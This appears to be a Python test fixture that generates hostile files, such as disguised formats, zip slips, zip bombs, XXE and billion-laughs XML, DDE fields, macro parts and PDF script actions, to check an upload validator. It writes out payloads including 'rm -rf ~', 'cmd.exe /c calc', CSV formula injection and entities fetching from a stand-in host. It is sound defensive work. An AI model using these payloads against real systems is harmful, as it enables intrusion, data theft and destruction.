"""Hostile files, each with the kind its name promises and the reason for which it is refused."""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from chapterhouse.documents.kinds import MOST_BYTES, Kind, Reason
from documents.made import (
    docx,
    jpeg,
    odt,
    paragraph,
    pdf,
    picture,
    png,
    relation,
    word_parts,
    writer_parts,
    zipped,
)


class Hostile(NamedTuple):
    """A file, what its name promises, and why it is not taken (None: it is, cleaned)."""

    name: str
    kind: Kind
    make: Callable[[], bytes]
    reason: Reason | None
    is_heavy: bool = False


def given(content: bytes) -> Callable[[], bytes]:
    """A file that is made already."""
    return partial(bytes, content)


def oversize(make: Callable[[], bytes]) -> bytes:
    return make() + bytes(MOST_BYTES)


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
OTHERS = {
    "html": HTML,
    "html after blanks": b"\n\n   " + HTML,
    "svg": SVG,
    "svg with a declaration": b'<?xml version="1.0"?>' + SVG,
    "javascript": b"alert(1)//",
    "a program for Windows": b"MZ" + bytes(300),
    "a program for Linux": b"\x7fELF" + bytes(300),
    "a shell script": b"#!/bin/sh\nrm -rf ~\n",
    "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rtf": rb"{\rtf1\ansi hello}",
    "gif": b"GIF89a" + bytes(60),
    "postscript": b"%!PS-Adobe-3.0\n",
    "csv with a formula": b'=cmd|"/C calc"!A0,1,2\n',
    "plain text": b"hello",
    "gzip": b"\x1f\x8b\x08" + bytes(40),
    "rar": b"Rar!\x1a\x07\x00" + bytes(40),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "a shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "eicar": EICAR,
    "null bytes": bytes(400),
}


def others() -> Iterator[Hostile]:
    for name, content in OTHERS.items():
        for kind in (Kind.PDF, Kind.PNG) if len(name) % 2 else (Kind.DOCX, Kind.JPEG):
            yield Hostile(f"{name} as {kind}", kind, given(content), Reason.DISGUISED)


GOOD: dict[Kind, Callable[[], bytes]] = {
    Kind.PDF: pdf,
    Kind.DOCX: docx,
    Kind.ODT: odt,
    Kind.PNG: png,
    Kind.JPEG: jpeg,
}


def mistaken() -> Iterator[Hostile]:
    for is_, make in GOOD.items():
        for says in Kind:
            if says is not is_:
                yield Hostile(f"{is_} that says {says}", says, make, Reason.DISGUISED)


def broken() -> Iterator[Hostile]:
    for kind, make in GOOD.items():
        yield Hostile(f"{kind}, empty", kind, bytes, Reason.EMPTY)
        yield Hostile(f"{kind}, oversize", kind, partial(oversize, make), Reason.TOO_LARGE)
        yield Hostile(f"{kind}, cut in half", kind, given(make()[: len(make()) // 2]), Reason.UNREADABLE)
        short = Reason.DISGUISED if kind in (Kind.DOCX, Kind.ODT) else Reason.UNREADABLE
        yield Hostile(f"{kind}, cut after its first bytes", kind, given(make()[:12]), short)
    yield Hostile("zip with something before it", Kind.DOCX, lambda: b"GIF89a" + docx(), Reason.DISGUISED)
    yield Hostile("zip with something behind it", Kind.DOCX, lambda: docx() + HTML, Reason.UNREADABLE)
    yield Hostile("odt with something behind it", Kind.ODT, lambda: odt() + HTML, Reason.UNREADABLE)
    yield Hostile("pdf with blanks before it", Kind.PDF, lambda: b"\n\n" + pdf(), Reason.DISGUISED)
    yield Hostile("pdf behind html", Kind.PDF, lambda: HTML + pdf(), Reason.DISGUISED)


# --- Archives ---


def entry(name: str, content: bytes = b"<x/>", mode: int = 0, **more: int) -> bytes:
    """A Word document with one more part, made as hostile as wished."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for known, part in word_parts().items():
            archive.writestr(known, part)
        made = zipfile.ZipInfo("placeholder")
        made.filename = name
        made.external_attr = mode << 16
        made.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(made, content)
        for attribute, value in more.items():
            setattr(made, attribute, value)
    return written.getvalue()


def renamed(shown: str, real: str) -> bytes:
    """A part whose name is changed in the bytes, as no library would write it."""
    return entry(shown).replace(shown.encode(), real.encode())


def locked() -> bytes:
    """The flag of encryption, in both headers of every part but the first."""
    content = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature, content.find(signature) + 4)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def many(count: int) -> bytes:
    return docx(extra={f"word/media/{n}.xml": b"<x/>" for n in range(count)})


def bomb() -> bytes:
    """Four kilobytes that unpack to four million."""
    return docx(extra={"word/media/bomb.xml": b"<x>" + b" " * 4_000_000 + b"</x>"})


def slow_bomb() -> bytes:
    """Parts that each stay under the ratio and together pass the limit of what comes out."""
    chance = random.Random(1)
    part = b"".join(chance.randbytes(20) + bytes(980) for _ in range(10_500))
    return docx(extra={f"word/media/{n}.xml": part for n in range(20)})


def lying() -> bytes:
    """A directory that says less than comes out."""
    content = bytearray(bomb())
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/media/bomb.xml"))
    struct.pack_into("<L", content, at + 24, 10)
    return bytes(content)


def archives() -> Iterator[Hostile]:
    leaving = ("../evil.xml", "word/../../evil.xml", "/etc/passwd.xml", "word/./x.xml", "C:/evil.xml", "a\\..\\b.xml")
    for name in leaving:
        yield Hostile(f"zip slip {name}", Kind.DOCX, given(entry(name)), Reason.LEAVES_ITS_PLACE)
    yield Hostile(
        "null byte in a name", Kind.DOCX, lambda: renamed("evilXtxt.xml", "evil\0txt.xml"), Reason.LEAVES_ITS_PLACE
    )
    yield Hostile(
        "line break in a name", Kind.DOCX, lambda: renamed("evilXtxt.xml", "evil\ntxt.xml"), Reason.LEAVES_ITS_PLACE
    )
    for mode in (stat.S_IFLNK, stat.S_IFCHR, stat.S_IFIFO, stat.S_IFSOCK, stat.S_IFBLK):
        link = mode | 0o777
        yield Hostile(
            f"special file {mode:o}",
            Kind.DOCX,
            given(entry("x.xml", b"/etc/passwd", link)),
            Reason.LEAVES_ITS_PLACE,
        )
    yield Hostile("encrypted zip", Kind.DOCX, locked, Reason.ENCRYPTED)
    yield Hostile(
        "Word file with a password",
        Kind.DOCX,
        lambda: OTHERS["an old Word file"] + "EncryptedPackage".encode("utf-16-le"),
        Reason.ENCRYPTED,
    )
    yield Hostile("too many parts", Kind.DOCX, lambda: many(2_000), Reason.TOO_MUCH)
    yield Hostile("zip bomb", Kind.DOCX, bomb, Reason.TOO_MUCH, is_heavy=True)
    yield Hostile("zip bomb in parts", Kind.DOCX, slow_bomb, Reason.TOO_MUCH, is_heavy=True)
    yield Hostile("zip bomb whose directory lies", Kind.DOCX, lying, Reason.UNREADABLE, is_heavy=True)
    yield Hostile(
        "the same name twice", Kind.DOCX, lambda: docx(extra={"WORD/document.xml": b"<x/>"}), Reason.UNREADABLE
    )
    yield Hostile(
        "an unusual compression", Kind.DOCX, lambda: zipped(word_parts(), zipfile.ZIP_LZMA), Reason.UNREADABLE
    )
    yield Hostile(
        "a nested zip", Kind.DOCX, lambda: docx(extra={"word/media/a.png": zipped({"a": b"b"})}), Reason.EMBEDDED
    )
    yield Hostile(
        "a nested document", Kind.DOCX, lambda: docx(extra={"word/embeddings/a.docx": docx()}), Reason.EMBEDDED
    )
    yield Hostile("a nested bomb", Kind.ODT, lambda: odt(extra={"Pictures/a.png": bomb()}), Reason.EMBEDDED)
    for name, content in (
        ("program", b"MZ" + bytes(99)),
        ("script", b"#!/bin/sh\n"),
        ("ole", OTHERS["an old Word file"]),
        ("pdf", b"%PDF-1.7"),
    ):
        yield Hostile(
            f"a {name} as a picture in it",
            Kind.DOCX,
            given(docx(extra={"word/media/a.png": content})),
            Reason.EMBEDDED,
        )
    for ending in ("exe", "js", "vbs", "html", "bin", "lnk", "jar"):
        yield Hostile(
            f"a part that ends in {ending}",
            Kind.DOCX,
            given(docx(extra={f"word/a.{ending}": b"x"})),
            Reason.EMBEDDED,
        )
    yield Hostile(
        "a spreadsheet",
        Kind.DOCX,
        lambda: zipped({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<x/>", "xl/workbook.xml": b"<x/>"}),
        Reason.DISGUISED,
    )
    yield Hostile(
        "an odt that is a spreadsheet",
        Kind.ODT,
        lambda: odt(kind="application/vnd.oasis.opendocument.spreadsheet"),
        Reason.DISGUISED,
    )


# --- Office documents ---

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
XXE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
PARAMETER = b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.9/a.dtd"> %a;]><x/>'


def field(*pieces: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def words() -> Iterator[Hostile]:
    fields = {
        "DDE": field(" DDE cmd.exe /c calc "),
        "DDEAUTO": field(' DDEAUTO "C:\\\\Windows\\\\cmd.exe" "/k calc" '),
        "DDE in pieces": field(" DD", "EAU", "TO cmd calc"),
        "DDE in small letters": field(" ddeauto cmd calc "),
        "DDE quoted": field(" QUOTE 68 68 69 65 85 84 79 "),
        "a simple field with DDE": '<w:p><w:fldSimple w:instr="DDEAUTO cmd calc"/></w:p>',
        "INCLUDETEXT": field(' INCLUDETEXT "http://203.0.113.9/x" '),
        "INCLUDEPICTURE": field(' INCLUDEPICTURE "http://203.0.113.9/x.png" '),
        "LINK": field(" LINK Excel.Sheet.8 a.xls "),
        "MACROBUTTON": field(" MACROBUTTON AutoOpen click "),
        "a field inside a field": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + field(" DDE cmd calc ")
        + "</w:p>",
        "a field that never ends": '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDEAUTO a b</w:instrText></w:r></w:p>',
        "instructions outside any field": "<w:p><w:r><w:instrText>DDEAUTO a b</w:instrText></w:r></w:p>",
    }
    for name, body in fields.items():
        yield Hostile(name, Kind.DOCX, given(docx(body)), Reason.FIELDS)
    yield Hostile(
        "a link field to a share", Kind.DOCX, lambda: docx(field(' HYPERLINK "file://203.0.113.9/x" ')), Reason.EXTERNAL
    )
    for kind in ("attachedTemplate", "image", "frame", "subDocument", "oleObject", "externalLink", "settings"):
        reason = Reason.EMBEDDED if kind in ("frame", "subDocument", "oleObject") else Reason.EXTERNAL
        yield Hostile(f"external {kind}", Kind.DOCX, given(docx(rels=relation(kind, "http://203.0.113.9/x"))), reason)
    for target in (
        "file://203.0.113.9/x",
        "\\\\203.0.113.9\\x",
        "javascript:alert(1)",
        "ms-msdt:/id",
        "mhtml:http://203.0.113.9/",
    ):
        yield Hostile(
            f"link to {target}",
            Kind.DOCX,
            given(docx(rels=relation("hyperlink", target))),
            Reason.EXTERNAL,
        )
    yield Hostile(
        "external without saying so",
        Kind.DOCX,
        lambda: docx(rels=relation("image", "http://203.0.113.9/x", "")),
        Reason.EXTERNAL,
    )
    yield Hostile(
        "a picture of the old kind",
        Kind.DOCX,
        lambda: docx(paragraph('<v:imagedata src="http://203.0.113.9/x"/>')),
        Reason.EXTERNAL,
    )
    yield Hostile(
        "a chunk of html", Kind.DOCX, lambda: docx(rels=relation("aFChunk", "chunk.xml", "")), Reason.EMBEDDED
    )
    for name in (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "customUI/customUI14.xml",
        "word/attachedToolbars.bin",
    ):
        yield Hostile(name, Kind.DOCX, given(docx(extra={name: b"<x/>"})), Reason.MACROS)
    yield Hostile("a document with macros that says it has none", Kind.DOCX, lambda: docx(kind=MACRO), Reason.MACROS)
    yield Hostile(
        "a relation to macros", Kind.DOCX, lambda: docx(rels=relation("vbaProject", "a.xml", "")), Reason.MACROS
    )
    yield Hostile("a template", Kind.DOCX, lambda: docx(kind=MAIN_OF_TEMPLATES), Reason.DISGUISED)
    for name, part in (
        ("billion laughs", LAUGHS),
        ("xxe", XXE),
        ("a parameter entity", PARAMETER),
        ("a document type", b"<!DOCTYPE x><x/>"),
    ):
        yield Hostile(f"{name} in docx", Kind.DOCX, given(docx(extra={"word/styles.xml": part})), Reason.MARKUP)
        yield Hostile(f"{name} in odt", Kind.ODT, given(odt(extra={"styles.xml": part})), Reason.MARKUP)
    yield Hostile("markup that is none", Kind.DOCX, lambda: docx(extra={"word/styles.xml": b"<x>"}), Reason.UNREADABLE)
    yield Hostile("a drawing with a script", Kind.DOCX, lambda: docx(extra={"word/media/a.svg": SVG}), Reason.MACROS)
    yield Hostile(
        "a drawing that acts",
        Kind.DOCX,
        lambda: docx(extra={"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>'}),
        Reason.MACROS,
    )


MAIN_OF_TEMPLATES = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def writers() -> Iterator[Hostile]:
    bodies = {
        "a listener": ('<script:event-listener script:event-name="on-click"/>', Reason.MACROS),
        "a script": ('<office:script script:language="x"/>', Reason.MACROS),
        "a macro link": ('<text:a xlink:href="vnd.sun.star.script:x.py$y?language=Python">x</text:a>', Reason.MACROS),
        "a macro address": ('<text:a xlink:href="macro:///x">x</text:a>', Reason.MACROS),
        "dde": ('<office:dde-source office:dde-application="cmd"/>', Reason.FIELDS),
        "a dde connection": ("<text:dde-connection-decl/>", Reason.FIELDS),
        "a section from elsewhere": ('<text:section-source xlink:href="http://203.0.113.9/"/>', Reason.EXTERNAL),
        "a picture from elsewhere": ('<draw:image xlink:href="http://203.0.113.9/x.png"/>', Reason.EXTERNAL),
        "a picture from a share": ('<draw:image xlink:href="//203.0.113.9/x.png"/>', Reason.EXTERNAL),
        "a picture from the disk": ('<draw:image xlink:href="file:///etc/passwd"/>', Reason.EXTERNAL),
        "a picture from above": ('<draw:image xlink:href="../../x.png"/>', Reason.EXTERNAL),
        "a link that runs": ('<text:a xlink:href="javascript:alert(1)">x</text:a>', Reason.MACROS),
        "an embedded object": ('<draw:object-ole xlink:href="./Object"/>', Reason.EMBEDDED),
        "a plugin": ("<draw:plugin/>", Reason.EMBEDDED),
        "a floating frame": ("<draw:floating-frame/>", Reason.EMBEDDED),
    }
    for name, (body, reason) in bodies.items():
        yield Hostile(f"odt with {name}", Kind.ODT, given(odt(body)), reason)
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/a.xml", "Dialogs/a.xml"):
        yield Hostile(f"odt with {name}", Kind.ODT, given(odt(extra={name: b"<x/>"})), Reason.MACROS)
    yield Hostile("odt with a program", Kind.ODT, lambda: odt(extra={"Pictures/a.exe": b"x"}), Reason.EMBEDDED)
    manifest = '<m:manifest xmlns:m="x"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    yield Hostile("odt, encrypted", Kind.ODT, lambda: odt(extra={"META-INF/manifest.xml": manifest}), Reason.ENCRYPTED)
    parts = writer_parts()
    yield Hostile(
        "odt that begins otherwise", Kind.ODT, lambda: zipped(dict(reversed(parts.items()))), Reason.DISGUISED
    )


# --- PDF: cleaned, not refused ---

EVIL = b"app.alert('canary')"


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(EVIL.decode()))


def on_open(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = script()


def hidden_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_stream(EVIL))


def named_scripts(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def on_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=script())


def launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("canary.exe"), Win=Dictionary(F=String("canary.exe")))


def link(action: Callable[[], Dictionary]) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        box = Array([0, 0, 9, 9])
        one = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=action())
        made.pages[0].obj.Annots = Array([made.make_indirect(one)])

    return change


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["canary.exe"] = b"canary"


def form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=Array([String("template"), made.make_stream(b"<canary/>")]), Fields=Array())


def acting_field(made: pikepdf.Pdf) -> None:
    one = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("b"),
            Rect=Array([0, 0, 9, 9]),
            A=script(),
            AA=Dictionary(K=script()),
        )
    )
    made.pages[0].obj.Annots = Array([one])
    made.Root.AcroForm = Dictionary(Fields=Array([one]))


def annotation(subtype: str, **more: Dictionary | String) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        one = Dictionary(
            Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 9, 9]), Contents=String("canary")
        )
        for key, value in more.items():
            one[f"/{key}"] = value
        made.pages[0].obj.Annots = Array([made.make_indirect(one)])

    return change


def outline(made: pikepdf.Pdf) -> None:
    one = made.make_indirect(Dictionary(Title=String("one"), A=script()))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=one, Last=one, Count=1))


def chained(made: pikepdf.Pdf) -> None:
    link(lambda: Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=script()))(made)


def written_by(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = "canary"
    with made.open_metadata() as meta:
        meta["dc:creator"] = ["canary"]


def collection(made: pikepdf.Pdf) -> None:
    attached(made)
    made.Root.Collection = Dictionary(Type=Name.Collection, D=String("canary.exe"))


def postscript(made: pikepdf.Pdf) -> None:
    drawn = made.make_stream(b"canary", Type=Name.XObject, Subtype=Name.PS)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=drawn))


def pdfs() -> Iterator[Hostile]:
    changes: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "a script on opening": on_open,
        "a script hidden in a stream": hidden_script,
        "named scripts": named_scripts,
        "a script of a page": on_page,
        "a program on opening": launch,
        "an attached file": attached,
        "a collection of files": collection,
        "a form with XFA": form,
        "a button with a script": acting_field,
        "an outline with a script": outline,
        "a script behind a link": chained,
        "its author": written_by,
        "postscript": postscript,
        "a link that is a script": link(script),
        "a link to a program": link(lambda: Dictionary(S=Name.Launch, F=String("canary.exe"))),
        "a link to another file": link(lambda: Dictionary(S=Name.GoToR, F=String("canary.pdf"))),
        "a link into an embedded file": link(lambda: Dictionary(S=Name.GoToE, T=Dictionary(N=String("canary")))),
        "a form that is sent": link(lambda: Dictionary(S=Name.SubmitForm, F=String("http://203.0.113.9/canary"))),
        "values fetched into it": link(lambda: Dictionary(S=Name.ImportData, F=String("canary.fdf"))),
        "a link with a script address": link(lambda: Dictionary(S=Name.URI, URI=String("javascript:canary"))),
        "a link to the disk": link(lambda: Dictionary(S=Name.URI, URI=String("file:///canary"))),
        "a link to a share": link(lambda: Dictionary(S=Name.URI, URI=String("\\\\203.0.113.9\\canary"))),
        "an unknown action": link(lambda: Dictionary(Type=Name.Action, S=Name.Canary)),
        "a note with a file": annotation("FileAttachment", FS=Dictionary(Type=Name.Filespec, F=String("canary.exe"))),
        "rich media": annotation("RichMedia", RichMediaContent=Dictionary(Assets=Dictionary())),
        "a film": annotation("Movie", Movie=Dictionary(F=String("canary.avi"))),
        "a sound": annotation("Sound"),
        "a screen": annotation("Screen", A=Dictionary(S=Name.Rendition, JS=String(EVIL.decode()))),
        "something in space": annotation("3D"),
    }
    for name, change in changes.items():
        yield Hostile(f"pdf with {name}", Kind.PDF, given(pdf(change)), None)
    locks = {
        "a password": pikepdf.Encryption(owner="o", user="u"),
        "an owner's password": pikepdf.Encryption(owner="o", user=""),
    }
    for name, lock in locks.items():
        yield Hostile(f"pdf with {name}", Kind.PDF, given(pdf(encryption=lock)), Reason.ENCRYPTED)
    yield Hostile(
        "pdf without a page", Kind.PDF, lambda: pdf(lambda made: made.pages.__delitem__(0)), Reason.UNREADABLE
    )
    yield Hostile(
        "pdf with a hundred thousand brackets",
        Kind.PDF,
        lambda: pdf().replace(b"/Catalog", b"/Catalog /X " + b"[" * 100_000),
        Reason.UNREADABLE,
    )
    yield Hostile("pdf that is only its header", Kind.PDF, lambda: b"%PDF-1.7\n", Reason.UNREADABLE)


# --- Pictures ---


def claiming(width: int, height: int) -> bytes:
    """A picture of few bytes that says it is enormous."""
    head = struct.pack(">II5B", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return png().replace(png()[12:33], chunk + struct.pack(">I", zlib.crc32(chunk)))


def pictures() -> Iterator[Hostile]:
    for width, height in ((30_000, 30_000), (2**31 - 1, 2), (7_000, 7_000), (100_000, 1), (1, 100_000)):
        yield Hostile(
            f"png of {width} by {height}",
            Kind.PNG,
            given(claiming(width, height)),
            Reason.TOO_MUCH,
            is_heavy=True,
        )
    yield Hostile(
        "png really too large", Kind.PNG, lambda: picture("PNG", (6_100, 6_000), "1"), Reason.TOO_MUCH, is_heavy=True
    )
    yield Hostile(
        "jpeg really too large", Kind.JPEG, lambda: picture("JPEG", (6_100, 6_000), "L"), Reason.TOO_MUCH, is_heavy=True
    )
    for name, tail in (
        ("html", HTML),
        ("a zip", zipped({"a": b"b"})),
        ("a program", b"MZ" + bytes(99)),
        ("php", b"<?php canary ?>"),
    ):
        yield Hostile(f"png followed by {name}", Kind.PNG, given(png() + tail), None)
        yield Hostile(f"jpeg followed by {name}", Kind.JPEG, given(jpeg() + tail), None)
    yield Hostile("jpeg with a script for its comment", Kind.JPEG, lambda: jpeg(comment=HTML), None)
    yield Hostile("png of zero by zero", Kind.PNG, lambda: claiming(0, 0), Reason.UNREADABLE)


HOSTILE = [*others(), *mistaken(), *broken(), *archives(), *words(), *writers(), *pdfs(), *pictures()]
